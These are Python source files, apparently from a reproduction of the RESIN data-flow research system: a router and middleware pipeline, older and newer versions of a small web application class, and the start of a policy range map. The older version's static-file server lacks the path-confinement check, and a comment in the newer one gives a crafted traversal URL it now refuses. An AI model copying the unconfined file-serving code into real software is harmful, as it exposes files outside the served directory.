    with ``HEAD`` implied by ``GET``.  ``is_coroutine`` records whether the
    handler is an ``async def`` — the dispatchers use it to decide between
    awaiting the handler on the event loop and sending it to an executor.
    """

    def __init__(
        self,
        pattern: str,
        handler: Callable[..., Any],
        methods: Optional[Iterable[str]] = ("GET",),
        name: Optional[str] = None,
    ):
        if not callable(handler):
            raise TypeError(f"route handler must be callable, got {handler!r}")
        self.pattern = str(pattern)
        self.handler = handler
        if methods is None:
            self.methods: Optional[frozenset] = None
        else:
            normalized = {str(m).upper() for m in methods}
            if not normalized:
                raise ValueError(f"route {pattern!r} allows no methods")
            if "GET" in normalized:
                normalized.add("HEAD")
            self.methods = frozenset(normalized)
        self.name = name or getattr(handler, "__name__", self.pattern)
        self.is_coroutine = inspect.iscoroutinefunction(handler)
        self._regex, self._converters = _compile(self.pattern)

    def allows(self, method: str) -> bool:
        return self.methods is None or str(method).upper() in self.methods

    def match_path(self, path: str) -> Optional[Dict[str, Any]]:
        """The converted parameters when ``path`` matches, else ``None``.

        A converter rejecting its segment (``ValueError``) means *no match*:
        the path does not belong to this route's URL space.
        """
        found = self._regex.match(str(path))
        if found is None:
            return None
        params: Dict[str, Any] = {}
        for key, value in found.groupdict().items():
            try:
                params[key] = self._converters[key](value)
            except ValueError:
                return None
        return params

    def __repr__(self) -> str:
        methods = "ANY" if self.methods is None else ",".join(sorted(self.methods))
        return f"Route({self.pattern!r}, methods={methods}, name={self.name!r})"


class RouteMatch:
    """A resolved dispatch: the route plus its converted path parameters."""

    __slots__ = ("route", "params")

    def __init__(self, route: Route, params: Dict[str, Any]):
        self.route = route
        self.params = params

    @property
    def handler(self) -> Callable[..., Any]:
        return self.route.handler

    def __repr__(self) -> str:
        return f"RouteMatch({self.route.pattern!r}, params={self.params!r})"


class Router:
    """An ordered route table with method-aware matching.

    ``match`` returns a :class:`RouteMatch`, returns ``None`` when no route
    owns the path (the application then falls back to static mounts /
    a 404), and raises :class:`MethodNotAllowed` when routes own the path
    but none serves the request's method — the 405-vs-404 distinction the
    flat path → handler dict could not express.
    """

    def __init__(self):
        self._routes: List[Route] = []

    def add(
        self,
        pattern: str,
        handler: Callable[..., Any],
        methods: Optional[Iterable[str]] = ("GET",),
        name: Optional[str] = None,
    ) -> Route:
        route = Route(pattern, handler, methods=methods, name=name)
        self._routes.append(route)
        return route

    def route(
        self,
        pattern: str,
        methods: Optional[Iterable[str]] = ("GET",),
        name: Optional[str] = None,
    ) -> Callable[[Callable[..., Any]], Callable[..., Any]]:
        """Decorator form of :meth:`add` (used via ``app.route``)."""

        def decorator(handler: Callable[..., Any]) -> Callable[..., Any]:
            self.add(pattern, handler, methods=methods, name=name)
            return handler

        return decorator

    def match(self, path: str, method: str = "GET") -> Optional[RouteMatch]:
        allowed: List[str] = []
        for route in self._routes:
            params = route.match_path(path)
            if params is None:
                continue
            if route.allows(method):
                return RouteMatch(route, params)
            allowed.extend(route.methods or ())
        if allowed:
            raise MethodNotAllowed(method, path, allowed)
        return None

    def literal(self, pattern: str) -> Optional[Route]:
        """The first route registered under exactly ``pattern`` (legacy
        ``routes[...]`` lookups), or ``None``."""
        for route in self._routes:
            if route.pattern == str(pattern):
                return route
        return None

    @property
    def routes(self) -> Tuple[Route, ...]:
        return tuple(self._routes)

    def __len__(self) -> int:
        return len(self._routes)

    def __iter__(self):
        return iter(self._routes)

    def __repr__(self) -> str:
        return f"Router({[r.pattern for r in self._routes]!r})"


# -- middleware ---------------------------------------------------------------


class Middleware:
    """One stage of the request pipeline.

    Subclasses override any of the three hooks:

    * ``process_request(request, response)`` — runs before routing, in
      registration order.  Returning non-``None`` **short-circuits**: later
      middlewares and the handler are skipped, and the value is applied as
      the handler result (a :class:`~repro.web.response.Response`, a string,
      or ``True`` for "the response channel is already written").
    * ``process_response(request, response)`` — runs after the handler (or
      the short-circuit, or a mapped error), in *reverse* registration
      order, only for middlewares whose request phase ran.
    * ``process_exception(request, response, exc)`` — consulted in reverse
      order when the request phase or the handler raises.  Returning
      non-``None`` marks the exception handled (the value is applied like a
      handler result); returning ``None`` passes it to the next middleware
      and ultimately re-raises.
    """

    #: The owning application, set by ``WebApplication.middleware``.
    app = None

    def bind(self, app) -> None:
        self.app = app

    def process_request(self, request, response):
        return None

    def process_response(self, request, response):
        return None

    def process_exception(self, request, response, exc):
        return None

    def __repr__(self) -> str:
        return f"{type(self).__name__}()"


class FunctionMiddleware(Middleware):
    """Adapts a plain ``fn(request)`` / ``fn(request, response)`` callable to
    one middleware phase — what ``@app.middleware`` builds for you, and what
    the deprecated ``before_request`` list wraps its hooks in."""

    def __init__(self, fn: Callable[..., Any], phase: str = "request"):
        if phase not in ("request", "response"):
            raise ValueError(f"unknown middleware phase {phase!r}")
        self.fn = fn
        self.phase = phase
        self._wants_response = self._takes_two_positionals(fn)

    @staticmethod
    def _takes_two_positionals(fn: Callable[..., Any]) -> bool:
        """True when ``fn`` should be called as ``fn(request, response)``.

        Only *required* positional parameters count — a hook like
        ``mark_request_untrusted(request, source="http-param")`` takes one
        argument as far as the pipeline is concerned, and its defaults stay
        untouched.  ``*args`` hooks get both.
        """
        try:
            parameters = inspect.signature(fn).parameters.values()
        except (TypeError, ValueError):
            return True
        positional = (
            inspect.Parameter.POSITIONAL_ONLY,
            inspect.Parameter.POSITIONAL_OR_KEYWORD,
        )
        required = 0
        for parameter in parameters:
            if parameter.kind is inspect.Parameter.VAR_POSITIONAL:
                return True
            if parameter.kind in positional:
                if parameter.default is inspect.Parameter.empty:
                    required += 1
        return required >= 2

    def _call(self, request, response):
        if self._wants_response:
            return self.fn(request, response)
        return self.fn(request)

    def process_request(self, request, response):
        if self.phase == "request":
            return self._call(request, response)
        return None

    def process_response(self, request, response):
        if self.phase == "response":
            return self._call(request, response)
        return None

    def __repr__(self) -> str:
        name = getattr(self.fn, "__name__", repr(self.fn))
        return f"FunctionMiddleware({name}, phase={self.phase!r})"


class ScopedMiddleware(Middleware):
    """A pipeline stage bound to a URL subtree.

    Wraps another middleware (or a plain hook, via
    :class:`FunctionMiddleware`) so its three phases run only for requests
    whose path lies under ``prefix`` — ``prefix="/admin"`` covers
    ``/admin`` and ``/admin/...`` but not ``/administrator``.  This is how
    server-level concerns (request logging, input marking, violation
    mapping, limits) compose with the pipeline per application area instead
    of globally; ``app.middleware(hook, prefix="/admin")`` builds one.
    """

    def __init__(self, prefix: str, middleware: Any, *, phase: str = "request"):
        if isinstance(middleware, Middleware):
            self.wrapped = middleware
        elif callable(middleware):
            self.wrapped = FunctionMiddleware(middleware, phase=phase)
        else:
            raise TypeError(
                f"ScopedMiddleware wants a Middleware or callable, got "
                f"{middleware!r}"
            )
        self.prefix = "/" + str(prefix).strip("/")
        if self.prefix == "/":
            raise ValueError(
                "ScopedMiddleware prefix must name a proper subtree; an "
                "unscoped middleware already covers the whole URL space"
            )

    def bind(self, app) -> None:
        super().bind(app)
        self.wrapped.bind(app)

    def covers(self, path: str) -> bool:
        path = str(path)
        return path == self.prefix or path.startswith(self.prefix + "/")

    def process_request(self, request, response):
        if not self.covers(request.path):
            return None
        return self.wrapped.process_request(request, response)

    def process_response(self, request, response):
        if not self.covers(request.path):
            return None
        return self.wrapped.process_response(request, response)

    def process_exception(self, request, response, exc):
        if not self.covers(request.path):
            return None
        return self.wrapped.process_exception(request, response, exc)

    def __repr__(self) -> str:
        return f"ScopedMiddleware({self.prefix!r}, {self.wrapped!r})"


class RequestLogMiddleware(Middleware):
    """Records one ``(request_id, method, path, user, status)`` entry per
    request — the canonical server-level concern to scope to a subtree.
    Entries land in the list passed in (or an internal one, exposed as
    ``entries``); the response phase runs after the handler, so ``status``
    is final.  ``request_id`` is the environment-unique id stamped at
    dispatch time (``request.id``) — the same number audit events and
    violations carry, so one grep correlates a request across all three."""

    def __init__(self, entries: Optional[List[tuple]] = None):
        self.entries: List[tuple] = entries if entries is not None else []

    def process_response(self, request, response):
        self.entries.append(
            (
                getattr(request, "id", None),
                request.method,
                request.path,
                request.user,
                response.status,
            )
        )
        return None


class SessionMiddleware(Middleware):
    """Resolves the request's session from its cookie.

    Looks the ``cookie`` value up in the session store (by default the
    application environment's ``sessions``), exposes it as
    ``request.session``, and — when the request carries no authenticated
    user of its own — adopts the session's user, so handlers and policies
    downstream see the principal the cookie proves.
    """

    def __init__(self, store=None, cookie: str = "sid"):
        self.store = store
        self.cookie = cookie

    def process_request(self, request, response):
        store = self.store
        if store is None and self.app is not None:
            store = self.app.env.sessions
        session = store.get(request.cookies.get(self.cookie)) if store else None
        request.session = session
        if session is not None and request.user is None:
            request.user = session.user
        return None


class UntrustedInputMiddleware(Middleware):
    """Marks every request parameter and uploaded file ``UntrustedData`` —
    the "mark the inputs" half of the SQL-injection / XSS assertions of
    Section 5.3, formerly a ``before_request`` hook."""

    def __init__(self, source: str = "http-param"):
        self.source = source

    def process_request(self, request, response):
        from ..security.assertions import mark_request_untrusted

        mark_request_untrusted(request, self.source)
        return None


class CatchViolationsMiddleware(Middleware):
    """Maps an escaping :class:`~repro.core.exceptions.PolicyViolation` to
    an HTTP 403 — the middleware form of the old ``catch_violations`` flag.

    The violation message is appended to the channel's delivered chunks
    directly (not written through the filter chain): explaining *why* a
    write was refused must not itself be refused.
    """

    def process_exception(self, request, response, exc):
        from ..core.exceptions import PolicyViolation

        if not isinstance(exc, PolicyViolation):
            return None
        response.set_status(403)
        response.chunks.append(f"Forbidden: {exc}")
        return True
