"""A miniature web framework.

``WebApplication`` dispatches :class:`~repro.web.request.Request` objects to
route handlers, giving each request its own
:class:`~repro.channels.httpout.HTTPOutputChannel` (the RESIN data flow
boundary to the browser).  It also plays the role of the RESIN-aware web
server of Section 3.4.1: static files are served only after invoking the
policies stored in the file's extended attributes, and files with an
executable extension are run through the interpreter's code-import channel
rather than served raw.
"""

from __future__ import annotations

import copy
from typing import Callable, Dict, List, Tuple

from ..channels.httpout import HTTPOutputChannel
from ..core.exceptions import HTTPError, PolicyViolation
from ..core.filter import Filter
from ..core.request_context import RequestContext, current_request
from ..fs import path as fspath
from .request import Request

Handler = Callable[[Request, HTTPOutputChannel], None]


class WebApplication:
    """Routes requests and serves static files for one application."""

    #: File extensions treated as server-side scripts when served from a
    #: static directory (the server-side script injection vector of
    #: Section 2: uploaded ``.php`` files can be executed by requesting them).
    SCRIPT_EXTENSIONS = ("php", "py")

    def __init__(self, env, name: str = "app"):
        self.env = env
        self.name = name
        self.routes: Dict[str, Handler] = {}
        self.static_mounts: List[Tuple[str, str]] = []
        self.response_filters: List[Filter] = []
        #: Called with the request before dispatch; applications use it to
        #: resolve sessions and mark untrusted input.
        self.before_request: List[Callable[[Request], None]] = []
        #: When True, PolicyViolation exceptions escaping a handler become
        #: HTTP 403 responses instead of propagating to the caller.
        self.catch_violations = False

    # -- configuration ------------------------------------------------------------

    def route(self, path: str) -> Callable[[Handler], Handler]:
        def decorator(handler: Handler) -> Handler:
            self.routes[path] = handler
            return handler
        return decorator

    def add_static_mount(self, url_prefix: str, directory: str) -> None:
        """Serve files under ``directory`` at ``url_prefix``."""
        self.static_mounts.append((url_prefix.rstrip("/"), directory))

    def add_response_filter(self, flt: Filter) -> None:
        """Stack a filter on every response channel (e.g. an XSS filter).

        Each response gets its own shallow copy of the filter, so that
        concurrent requests never share a mutable filter context.
        """
        self.response_filters.append(flt)

    # -- request handling ------------------------------------------------------------------

    def handle(self, request: Request) -> HTTPOutputChannel:
        """Process one request and return the response channel.

        The request runs inside a
        :class:`~repro.core.request_context.RequestContext`: either the one a
        :class:`~repro.server.dispatcher.Dispatcher` already bound for this
        very request, or a fresh one nested inside whatever scope the caller
        holds (``Resin.request`` blocks hand their user back on return).
        """
        rctx = current_request()
        if (rctx is not None and rctx.request is request
                and rctx.env is self.env):
            return self._handle(request, rctx)
        with RequestContext(env=self.env, user=request.user,
                            request=request) as rctx:
            return self._handle(request, rctx)

    def _handle(self, request: Request,
                rctx: RequestContext) -> HTTPOutputChannel:
        response = HTTPOutputChannel({"url": request.path}, env=self.env)
        response.set_user(request.user)
        rctx.http = response
        for flt in self.response_filters:
            response.add_filter(copy.copy(flt))
        self.env.fs.set_request_context(user=request.user)
        try:
            for hook in self.before_request:
                hook(request)
            handler = self.routes.get(request.path)
            if handler is not None:
                handler(request, response)
            else:
                self._serve_static(request, response)
        except HTTPError as exc:
            response.set_status(exc.status)
            response.chunks.append(str(exc))
        except PolicyViolation as exc:
            if not self.catch_violations:
                raise
            response.set_status(403)
            response.chunks.append(f"Forbidden: {exc}")
        return response

    # -- static files (the RESIN-aware web server) ----------------------------------------------

    def _serve_static(self, request: Request, response: HTTPOutputChannel) -> None:
        for prefix, directory in self.static_mounts:
            if not request.path.startswith(prefix + "/") and request.path != prefix:
                continue
            relative = request.path[len(prefix):].lstrip("/")
            target = fspath.join(directory, relative)
            if not self.env.fs.isfile(target):
                continue
            if fspath.extension(target) in self.SCRIPT_EXTENSIONS:
                # Executing a server-side script: the code flows through the
                # interpreter's import channel, where the script-injection
                # assertion (if installed) checks for CodeApproval.
                self.env.interpreter.execute_file(target, request, response)
                return
            content = self.env.fs.read_bytes(target)
            # A RESIN-aware web server invokes the file's policy objects
            # before transmitting the file (Section 3.4.1).
            response.write(content.decode("utf-8", "replace"))
            return
        raise HTTPError(404, f"not found: {request.path}")
