"""A miniature web framework.

``WebApplication`` dispatches :class:`~repro.web.request.Request` objects
through a :class:`~repro.web.routing.Router` (method-aware, parameterized
patterns) and a middleware pipeline, giving each request its own
:class:`~repro.channels.httpout.HTTPOutputChannel` (the RESIN data flow
boundary to the browser).  It also plays the role of the RESIN-aware web
server of Section 3.4.1: static files are served only after invoking the
policies stored in the file's extended attributes, and files with an
executable extension are run through the interpreter's code-import channel
rather than served raw.

Handlers take ``(request, response, **route_params)`` and either write to
the response channel directly or return a value — ``None`` (already
written), a string (written through the channel), or a
:class:`~repro.web.response.Response` (status + headers + body, applied
through the channel).  ``async def`` handlers are first-class: the thread
front end runs them to completion on a private event loop, while
:class:`~repro.server.async_dispatcher.AsyncDispatcher` awaits them
natively on its own loop via :meth:`WebApplication.handle_async` — no
executor hop.

The pre-routing surface survives one release as shims: assigning into
``app.routes``, appending to ``app.before_request`` and setting
``app.catch_violations`` all still work but emit ``DeprecationWarning``
and delegate to the router / middleware pipeline.
"""

from __future__ import annotations

import asyncio
import copy
import warnings
from typing import Any, Callable, List, Optional, Tuple

from ..channels.httpout import HTTPOutputChannel
from ..core.exceptions import HTTPError
from ..core.filter import Filter
from ..core.request_context import RequestContext, current_request, stamp_request_id
from ..fs import path as fspath
from .request import Request
from .response import Response
from .routing import (
    CatchViolationsMiddleware,
    FunctionMiddleware,
    MethodNotAllowed,
    Middleware,
    RouteMatch,
    Router,
    ScopedMiddleware,
)

Handler = Callable[..., Any]

#: Sentinel: the request phase ran every middleware without short-circuiting.
_CONTINUE = object()


class _LegacyRoutes:
    """Deprecated dict-shaped view over the router.

    ``app.routes[path] = handler`` and ``app.routes.get(path)`` keep
    working for one release; both warn and delegate to
    :class:`~repro.web.routing.Router` (registration accepts any method,
    which is what the flat dict did).
    """

    def __init__(self, app: "WebApplication"):
        self._app = app

    def _warn(self) -> None:
        warnings.warn(
            "WebApplication.routes is deprecated: register handlers with "
            "app.route(pattern, methods=[...]) and look them up through "
            "app.router",
            DeprecationWarning,
            stacklevel=3,
        )

    def __setitem__(self, pattern: str, handler: Handler) -> None:
        self._warn()
        self._app.router.add(pattern, handler, methods=None)

    def get(self, pattern: str, default: Any = None) -> Any:
        self._warn()
        route = self._app.router.literal(pattern)
        return route.handler if route is not None else default

    def __getitem__(self, pattern: str) -> Handler:
        handler = self.get(pattern)
        if handler is None:
            raise KeyError(pattern)
        return handler

    def __contains__(self, pattern: str) -> bool:
        self._warn()
        return self._app.router.literal(pattern) is not None

    def __len__(self) -> int:
        return len(self._app.router)

    def __repr__(self) -> str:
        return f"_LegacyRoutes({[r.pattern for r in self._app.router]!r})"


class _LegacyHooks:
    """Deprecated list-shaped view over the request-phase middlewares.

    ``app.before_request.append(hook)`` warns and registers the hook as a
    :class:`~repro.web.routing.FunctionMiddleware`.
    """

    def __init__(self, app: "WebApplication"):
        self._app = app

    def append(self, hook: Callable[..., Any]) -> None:
        warnings.warn(
            "WebApplication.before_request is deprecated: register the hook "
            "with app.middleware(hook) (request phase)",
            DeprecationWarning,
            stacklevel=2,
        )
        self._app.middleware(hook)

    def __len__(self) -> int:
        return sum(
            1
            for mw in self._app.middlewares
            if isinstance(mw, FunctionMiddleware) and mw.phase == "request"
        )

    def __repr__(self) -> str:
        return f"_LegacyHooks(n={len(self)})"


class WebApplication:
    """Routes requests and serves static files for one application."""

    #: File extensions treated as server-side scripts when served from a
    #: static directory (the server-side script injection vector of
    #: Section 2: uploaded ``.php`` files can be executed by requesting them).
    SCRIPT_EXTENSIONS = ("php", "py")

    def __init__(self, env, name: str = "app"):
        self.env = env
        self.name = name
        #: The route table (method-aware, parameterized patterns).
        self.router = Router()
        self.static_mounts: List[Tuple[str, str]] = []
        self.response_filters: List[Filter] = []
        #: The middleware pipeline, in registration order.
        self.middlewares: List[Middleware] = []
        self._legacy_routes = _LegacyRoutes(self)
        self._legacy_hooks = _LegacyHooks(self)

    # -- configuration ------------------------------------------------------------

    def route(
        self,
        pattern: str,
        methods: Optional[Any] = ("GET",),
        name: Optional[str] = None,
    ) -> Callable[[Handler], Handler]:
        """Register a handler: ``@app.route("/paper/<int:pid>",
        methods=["GET", "POST"])``.  ``methods=None`` serves every method."""
        return self.router.route(pattern, methods=methods, name=name)

    def middleware(
        self,
        middleware: Optional[Any] = None,
        *,
        phase: str = "request",
        prefix: Optional[str] = None,
    ) -> Any:
        """Add a pipeline stage.

        Accepts a :class:`~repro.web.routing.Middleware` instance, a plain
        callable (wrapped as a one-phase
        :class:`~repro.web.routing.FunctionMiddleware`), or no argument —
        decorator form: ``@app.middleware`` / ``@app.middleware(
        phase="response")``.  With ``prefix`` the stage is scoped to that
        URL subtree (a :class:`~repro.web.routing.ScopedMiddleware`): it
        runs only for requests whose path lives under the prefix.
        """
        if middleware is None:

            def decorator(fn: Callable[..., Any]) -> Callable[..., Any]:
                self.middleware(fn, phase=phase, prefix=prefix)
                return fn

            return decorator
        if prefix is not None:
            stage: Middleware = ScopedMiddleware(prefix, middleware, phase=phase)
        elif isinstance(middleware, Middleware):
            stage = middleware
        elif callable(middleware):
            stage = FunctionMiddleware(middleware, phase=phase)
        else:
            raise TypeError(
                f"middleware must be a Middleware or a callable, got {middleware!r}"
            )
        stage.bind(self)
        self.middlewares.append(stage)
        return middleware

    def add_static_mount(self, url_prefix: str, directory: str) -> None:
        """Serve files under ``directory`` at ``url_prefix``."""
        self.static_mounts.append((url_prefix.rstrip("/"), directory))

    def add_response_filter(self, flt: Filter) -> None:
        """Stack a filter on every response channel (e.g. an XSS filter).

        Each response gets its own shallow copy of the filter, so that
        concurrent requests never share a mutable filter context.
        """
        self.response_filters.append(flt)

    # -- deprecated pre-routing surface -------------------------------------------

    @property
    def routes(self) -> _LegacyRoutes:
        """Deprecated dict view of the route table (warns on use)."""
        return self._legacy_routes

    @routes.setter
    def routes(self, mapping) -> None:
        # Wholesale reassignment was legal on the old plain attribute; keep
        # it limping along by registering every entry (the per-item shim
        # emits the DeprecationWarning).
        for pattern, handler in dict(mapping).items():
            self._legacy_routes[pattern] = handler

    @property
    def before_request(self) -> _LegacyHooks:
        """Deprecated hook list (warns on append; use :meth:`middleware`)."""
        return self._legacy_hooks

    @before_request.setter
    def before_request(self, hooks) -> None:
        for hook in hooks:
            self._legacy_hooks.append(hook)

    @property
    def catch_violations(self) -> bool:
        """Deprecated flag; the behaviour is
        :class:`~repro.web.routing.CatchViolationsMiddleware` now."""
        return any(
            isinstance(mw, CatchViolationsMiddleware) for mw in self.middlewares
        )

    @catch_violations.setter
    def catch_violations(self, value: bool) -> None:
        warnings.warn(
            "WebApplication.catch_violations is deprecated: add "
            "app.middleware(CatchViolationsMiddleware()) instead",
            DeprecationWarning,
            stacklevel=2,
        )
        if value and not self.catch_violations:
            self.middleware(CatchViolationsMiddleware())
        elif not value:
            self.middlewares = [
                mw
                for mw in self.middlewares
                if not isinstance(mw, CatchViolationsMiddleware)
            ]

    # -- request handling ---------------------------------------------------------

    def handle(self, request: Request) -> HTTPOutputChannel:
        """Process one request and return the response channel.

        The request runs inside a
        :class:`~repro.core.request_context.RequestContext`: either the one a
        :class:`~repro.server.dispatcher.Dispatcher` already bound for this
        very request, or a fresh one nested inside whatever scope the caller
        holds (``Resin.request`` blocks hand their user back on return).
        ``async def`` handlers run to completion on a private event loop —
        use :meth:`handle_async` (or
        :class:`~repro.server.async_dispatcher.AsyncDispatcher`) to await
        them on a shared loop instead.
        """
        rctx = current_request()
        if rctx is not None and rctx.request is request and rctx.env is self.env:
            return self._handle(request, rctx)
        with RequestContext(
            env=self.env,
            user=request.user,
            request=request,
            request_id=stamp_request_id(self.env, request),
        ) as rctx:
            return self._handle(request, rctx)

    async def handle_async(self, request: Request) -> HTTPOutputChannel:
        """Process one request on the running event loop.

        Coroutine handlers are awaited *directly* — no executor hop; their
        awaits suspend inside the request's
        :class:`~repro.core.request_context.RequestContext` (a contextvars
        binding, task-local), and cancelling the awaiting task unwinds the
        context and its per-request filter overlays.  Sync handlers are
        called inline — schedule them on an executor (what
        :class:`~repro.server.async_dispatcher.AsyncDispatcher` does) when
        they might block the loop.
        """
        rctx = current_request()
        if rctx is not None and rctx.request is request and rctx.env is self.env:
            return await self._handle_async(request, rctx)
        async with RequestContext(
            env=self.env,
            user=request.user,
            request=request,
            request_id=stamp_request_id(self.env, request),
        ) as rctx:
            return await self._handle_async(request, rctx)

    def is_native_async(self, request: Request) -> bool:
        """True when ``request`` resolves to an ``async def`` handler — the
        per-route decision :class:`~repro.server.async_dispatcher
        .AsyncDispatcher` uses to keep coroutines on the loop and send
        everything else to its executor.

        The resolved match is cached on the request, so the dispatch that
        follows does not pay for a second route scan.
        """
        try:
            match = self.router.match(request.path, request.method)
        except HTTPError:
            return False
        if match is not None:
            request._route_match = (self, request.path, request.method, match)
        return match is not None and match.route.is_coroutine

    # -- the two dispatch flavours ------------------------------------------------

    def _handle(self, request: Request, rctx: RequestContext) -> HTTPOutputChannel:
        response = self._begin(request, rctx)
        ran: List[Middleware] = []
        try:
            result = self._request_phase(request, response, ran, rctx)
            if result is _CONTINUE:
                match = self._match(request, rctx)
                if match is None:
                    self._serve_static(request, response)
                    result = None
                else:
                    result = match.handler(request, response, **match.params)
                    if asyncio.iscoroutine(result):
                        # A coroutine handler reached through the sync front
                        # end (thread dispatcher, direct handle()): run it to
                        # completion on a private loop.
                        result = asyncio.run(result)
            self._apply_result(response, result, request)
        except Exception as exc:  # noqa: BLE001 - mapped or re-raised below
            if not self._handle_exception(request, response, ran, exc):
                raise
        self._response_phase(request, response, ran)
        return response

    async def _handle_async(
        self, request: Request, rctx: RequestContext
    ) -> HTTPOutputChannel:
        response = self._begin(request, rctx)
        ran: List[Middleware] = []
        try:
            result = self._request_phase(request, response, ran, rctx)
            if result is _CONTINUE:
                match = self._match(request, rctx)
                if match is None:
                    self._serve_static(request, response)
                    result = None
                else:
                    result = match.handler(request, response, **match.params)
                    if asyncio.iscoroutine(result):
                        result = await result
            await self._apply_result_async(response, result, request)
        except Exception as exc:  # noqa: BLE001 - mapped or re-raised below
            if not self._handle_exception(request, response, ran, exc):
                raise
        self._response_phase(request, response, ran)
        return response

    # -- shared plumbing ----------------------------------------------------------

    def _begin(self, request: Request, rctx: RequestContext) -> HTTPOutputChannel:
        response = HTTPOutputChannel({"url": request.path}, env=self.env)
        response.set_user(request.user)
        rctx.http = response
        for flt in self.response_filters:
            response.add_filter(copy.copy(flt))
        self.env.fs.set_request_context(user=request.user)
        return response

    def _request_phase(
        self,
        request: Request,
        response: HTTPOutputChannel,
        ran: List[Middleware],
        rctx: RequestContext,
    ) -> Any:
        """Run ``process_request`` stages in order; a non-``None`` return
        short-circuits.  Afterwards the request's (possibly middleware-
        resolved) user is synchronized onto the context and the channel."""
        result = _CONTINUE
        for mw in self.middlewares:
            ran.append(mw)
            value = mw.process_request(request, response)
            if value is not None:
                result = value
                break
        if rctx.user != request.user:
            rctx.user = request.user
            rctx.fs_context["user"] = request.user
            response.set_user(request.user)
        return result

    def _response_phase(
        self,
        request: Request,
        response: HTTPOutputChannel,
        ran: List[Middleware],
    ) -> None:
        for mw in reversed(ran):
            mw.process_response(request, response)

    def _match(self, request: Request, rctx: RequestContext) -> Optional[RouteMatch]:
        cached, request._route_match = request._route_match, None
        if cached is not None and cached[:3] == (self, request.path, request.method):
            match = cached[3]
        else:
            match = self.router.match(request.path, request.method)
        if match is not None:
            rctx.route = match.route.name
            rctx.route_params = dict(match.params)
        return match

    def _apply_result(
        self,
        response: HTTPOutputChannel,
        result: Any,
        request: Optional[Request] = None,
    ) -> None:
        """Emit a handler/middleware result through the channel.

        ``Response`` objects are applied; strings and bytes are written
        (policies intact, so the boundary check still runs).  Anything else
        means "the handler wrote to the channel itself" and is ignored —
        which is also what keeps legacy handlers that ``return
        response.write(...)`` (an int) working.

        A ``Response`` carrying stream chunks is *deferred* when the request
        came through a streaming consumer (the socket server sets
        ``request.stream_consumer``): status and headers are applied now,
        the body sources are parked on ``response.pending_stream``, and the
        consumer drains them — each piece still crosses ``channel.write``,
        just interleaved with the wire.
        """
        if isinstance(result, Response):
            if self._defer_stream(response, result, request):
                return
            result.apply(response)
        elif isinstance(result, (str, bytes)):
            response.write(result)

    async def _apply_result_async(
        self,
        response: HTTPOutputChannel,
        result: Any,
        request: Optional[Request] = None,
    ) -> None:
        """:meth:`_apply_result` on the event loop: async stream chunks are
        awaited in place instead of being bounced to a private loop."""
        if isinstance(result, Response):
            if self._defer_stream(response, result, request):
                return
            await result.apply_async(response)
        elif isinstance(result, (str, bytes)):
            response.write(result)

    @staticmethod
    def _defer_stream(
        response: HTTPOutputChannel, result: Response, request: Optional[Request]
    ) -> bool:
        if (
            request is not None
            and getattr(request, "stream_consumer", False)
            and result.has_stream()
        ):
            result.apply_headers(response)
            response.pending_stream = result
            return True
        return False

    def _handle_exception(
        self,
        request: Request,
        response: HTTPOutputChannel,
        ran: List[Middleware],
        exc: Exception,
    ) -> bool:
        """Map an exception to a response; False means "re-raise".

        ``process_exception`` hooks run in reverse registration order (a
        :class:`~repro.web.routing.CatchViolationsMiddleware` turns policy
        violations into 403s here); :class:`~repro.core.exceptions.HTTPError`
        has built-in status mapping.  Everything else — including a
        ``PolicyViolation`` with no catching middleware — propagates to the
        dispatcher, which confines it to the offending request.
        """
        for mw in reversed(ran):
            value = mw.process_exception(request, response, exc)
            if value is not None:
                self._apply_result(response, value)
                return True
        if isinstance(exc, HTTPError):
            response.set_status(exc.status)
            if isinstance(exc, MethodNotAllowed):
                response.headers.append(("Allow", ", ".join(exc.allowed)))
            response.chunks.append(str(exc))
            return True
        return False

    # -- static files (the RESIN-aware web server) --------------------------------

    def _serve_static(self, request: Request, response: HTTPOutputChannel) -> None:
        for prefix, directory in self.static_mounts:
            if not request.path.startswith(prefix + "/") and request.path != prefix:
                continue
            relative = request.path[len(prefix) :].lstrip("/")
            target = fspath.join(directory, relative)
            # Canonicalize-and-confine: join() resolves ".." lexically, so a
            # crafted URL ("/static/../secret") lands outside the mounted
            # directory.  Refuse anything that escaped the mount instead of
            # serving it.
            if not fspath.is_inside(target, directory):
                raise HTTPError(404, f"not found: {request.path}")
            if not self.env.fs.isfile(target):
                continue
            if fspath.extension(target) in self.SCRIPT_EXTENSIONS:
                # Executing a server-side script: the code flows through the
                # interpreter's import channel, where the script-injection
                # assertion (if installed) checks for CodeApproval.
                self.env.interpreter.execute_file(target, request, response)
                return
            content = self.env.fs.read_bytes(target)
            # A RESIN-aware web server invokes the file's policy objects
            # before transmitting the file (Section 3.4.1).
            response.write(content.decode("utf-8", "replace"))
            return
        raise HTTPError(404, f"not found: {request.path}")

    def __repr__(self) -> str:
        return (
            f"WebApplication({self.name!r}, routes={len(self.router)}, "
            f"middlewares={len(self.middlewares)})"
        )
