"""Character-range policy maps.

RESIN tracks policies at character granularity (Section 3.4): concatenating a
string annotated with policy ``p1`` and one annotated with ``p2`` yields a
string whose first characters carry only ``p1`` and whose last characters
carry only ``p2``.  :class:`RangeMap` is the data structure behind that: an
ordered list of half-open ``[start, stop)`` ranges, each mapping to a
:class:`~repro.core.policyset.PolicySet`.  Ranges never overlap, are always
sorted, and adjacent ranges with equal policy sets are coalesced.

Concatenation, step-1 slicing, and repetition are **lazy**: they return
O(1) rope nodes (a concatenation of child maps, an offset view over a base
map, a repeat of a base map) that share the children's immutable range
tuples instead of copying them.  The node tree is flattened into the
normalized range tuple on first *inspection* — ``ranges``, ``policies_at``,
equality, serialization — and the result is cached, so a page built from
thousands of concatenations pays for one flatten at the output boundary
instead of one copy per operation.  Flattening is iterative (no recursion,
however deep the rope) and produces exactly the ranges eager construction
would: normalization invariants are preserved, so ``__eq__``, xattr, and
WAL round-trips are byte-identical with the eager representation.
"""

from __future__ import annotations

from typing import Iterable, Iterator, List, Optional, Tuple

from ..core.policy import Policy
from ..core.policyset import PolicySet, as_policyset


class PolicyRange:
    """A half-open character range ``[start, stop)`` carrying a policy set."""

    __slots__ = ("start", "stop", "policies")

    def __init__(self, start: int, stop: int, policies: PolicySet):
        if start < 0 or stop < start:
            raise ValueError(f"invalid range [{start}, {stop})")
        self.start = start
        self.stop = stop
        self.policies = as_policyset(policies)

    def __len__(self) -> int:
        return self.stop - self.start

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, PolicyRange):
            return NotImplemented
        return (
            self.start == other.start
            and self.stop == other.stop
            and self.policies == other.policies
        )

    def __repr__(self) -> str:
